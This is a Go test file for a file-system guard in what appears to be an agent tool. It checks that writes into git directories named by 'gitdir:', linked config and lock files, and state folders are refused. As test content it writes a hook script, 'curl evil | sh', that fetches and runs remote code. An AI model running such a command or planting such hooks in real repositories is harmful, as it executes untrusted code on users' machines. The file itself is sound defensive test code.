package workfs_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/helios-agents/helios/workfs"
)

// Protects (C18): Write/Edit refuse what confined commands cannot write,
// from one source (workfs.Targets): the repository a "gitdir:" .git names
// (relative or absolute), and the real target of a linked
// helios.config.json or helios-lock.json, through any path that reaches
// them; a linked .helios's target but its skills folder. A sibling stays
// writable, and nothing refused changes the disk.
func TestWorkFSProtectsWhereProtectedNamesLead(t *testing.T) {
	tests := []struct {
		name    string
		setup   func(t *testing.T, work string)
		refused map[string]string // path -> the protected path named in the error
		via     string
		allowed []string
	}{
		{"gitdir relative", func(t *testing.T, work string) {
			write(t, work, ".git", "gitdir: meta/repo\n")
		}, map[string]string{"meta/repo/hooks/pre-commit": "meta/repo", "meta/repo/config": "meta/repo", "meta/repo": "meta/repo", "sub/../meta/repo/hooks/new/x": "meta/repo"},
			".git", []string{"meta/repo2/x", "meta/other.txt"}},
		{"gitdir absolute", func(t *testing.T, work string) {
			write(t, work, ".git", "gitdir: "+filepath.Join(work, "meta/repo")+"\n")
		}, map[string]string{"meta/repo/hooks/pre-commit": "meta/repo", "$WORK/meta/repo/config": "meta/repo"},
			".git", []string{"meta/other.txt"}},
		{"gitdir of a submodule", func(t *testing.T, work string) {
			// A submodule's .git sits below the top; the top's .git names
			// the superproject's separate git dir.
			write(t, work, ".git", "gitdir: meta/repo\n")
			require.NoError(t, os.MkdirAll(filepath.Join(work, "meta/repo/modules/lib/hooks"), 0o755))
		}, map[string]string{"meta/repo/modules/lib/hooks/post-checkout": "meta/repo"},
			".git", []string{"lib/x.go"}},
		{"linked config", func(t *testing.T, work string) {
			write(t, work, "conf/real.json", `{"tools":{"sandbox":{"mode":"workspace-write"}}}`)
			require.NoError(t, os.Symlink("conf/real.json", filepath.Join(work, workfs.ConfigName)))
		}, map[string]string{"conf/real.json": "conf/real.json", "$WORK/conf/../conf/real.json": "conf/real.json"},
			workfs.ConfigName, []string{"conf/other.json", "conf/real.json.bak"}},
		{"linked lockfile", func(t *testing.T, work string) {
			write(t, work, "conf/lock.json", `{}`)
			require.NoError(t, os.Symlink(filepath.Join(work, "conf/lock.json"), filepath.Join(work, workfs.LockName)))
		}, map[string]string{"conf/lock.json": "conf/lock.json"},
			workfs.LockName, []string{"conf/other.json"}},
		{"linked state folder", func(t *testing.T, work string) {
			write(t, work, "state/settings.json", `{}`)
			require.NoError(t, os.MkdirAll(filepath.Join(work, "state/skills"), 0o755))
			require.NoError(t, os.Symlink("state", filepath.Join(work, ".helios")))
		}, map[string]string{"state/settings.json": "state", "state/hooks/x": "state"},
			".helios", []string{"state/skills/new/SKILL.md"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := work(t)
			require.NoError(t, os.MkdirAll(filepath.Join(dir, "meta/repo/hooks"), 0o755))
			require.NoError(t, os.MkdirAll(filepath.Join(dir, "sub"), 0o755))
			write(t, dir, "meta/repo/config", "[core]\n")
			tt.setup(t, dir)
			f, err := workfs.New(dir)
			require.NoError(t, err)
			defer f.Close()
			before := tree(t, dir)
			for p, prot := range tt.refused {
				p = filepath.Clean(replaceWork(p, dir))
				for op, do := range map[string]func() error{
					"WriteFile": func() error { return f.WriteFile(p, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755) },
					"MkdirAll":  func() error { return f.MkdirAll(filepath.Join(p, "d"), 0o755) },
					"Remove":    func() error { return f.Remove(p) },
				} {
					err := do()
					require.ErrorIs(t, err, workfs.ErrProtected, "%s(%s)", op, p)
					var pe *workfs.ProtectedError
					require.ErrorAs(t, err, &pe)
					assert.Equal(t, prot, pe.Protected, "%s(%s)", op, p)
					assert.Equal(t, tt.via, pe.Via, "%s(%s)", op, p)
					assert.Contains(t, err.Error(), ", where "+tt.via+" leads, which is read-only in the work dir "+dir)
				}
			}
			assert.Equal(t, before, tree(t, dir), "a refused change changed the disk")
			for _, p := range tt.allowed {
				assert.NoError(t, f.WriteFile(p, []byte("ok"), 0o644), "a sibling stays writable: %s", p)
			}
		})
	}
}

// Protects (C18): Targets is the protected set itself: every protected
// name that exists, resolved, and the folder a gitdir: file names; a
// missing name or a dangling link is left out.
func TestTargets(t *testing.T) {
	dir := work(t)
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "meta/repo"), 0o755))
	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".agents"), 0o755))
	write(t, dir, ".git", "gitdir: meta/repo\n")
	write(t, dir, "conf/real.json", "{}")
	require.NoError(t, os.Symlink("conf/real.json", filepath.Join(dir, workfs.ConfigName)))
	require.NoError(t, os.Symlink("nowhere", filepath.Join(dir, workfs.LockName)))
	assert.Equal(t, []workfs.Target{
		{Name: workfs.ConfigName, Path: filepath.Join(dir, "conf/real.json")},
		{Name: workfs.GitName, Path: filepath.Join(dir, ".git")},
		{Name: workfs.GitName, Path: filepath.Join(dir, "meta/repo")},
		{Name: ".agents", Path: filepath.Join(dir, ".agents"), State: true},
	}, workfs.Targets(dir))
}

func write(t *testing.T, dir, rel, content string) {
	t.Helper()
	require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, rel)), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, rel), []byte(content), 0o644))
}

func replaceWork(p, dir string) string {
	if rest, ok := strings.CutPrefix(p, "$WORK"); ok {
		return dir + rest
	}
	return p
}
